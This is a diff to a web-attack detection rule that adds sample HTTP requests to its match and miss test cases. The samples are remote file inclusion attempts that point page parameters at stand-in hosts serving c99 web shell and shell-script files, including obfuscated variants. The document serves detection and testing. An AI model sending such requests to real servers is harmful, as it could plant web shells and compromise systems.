@@ -46,6 +46,9 @@ export default defineRule({
     'GET /a.php?x=ftp://203.0.113.9/a.sh HTTP/1.1',
     'GET /index.php?page=https://evil.example/x.txt? HTTP/1.1',
     'GET /index.php?page=ftps://evil.example/x.txt? HTTP/1.1',
+    'GET /a.php?page=+http://203.0.113.9/c99.txt HTTP/1.1',
+    'GET /a.php?page=http:\\\\203.0.113.9\\a.txt? HTTP/1.1',
+    'GET /a.php?page=http:\\\\203.0.113.9\\a.sh? HTTP/1.1',
   ],
   misses: [
     'GET /go?url=http://example.org/index.php HTTP/1.1',
@@ -57,5 +60,7 @@ export default defineRule({
       request: 'GET /style.css HTTP/1.1',
       referrer: 'https://www.example.com/index.php?page=http://evil.example/x.txt?',
     },
+    'GET /a.php?conf=http://evil.example/c99.txts HTTP/1.1',
+    'GET /a.php?x=http://203.0.113.9/a.shs HTTP/1.1',
   ],
 })
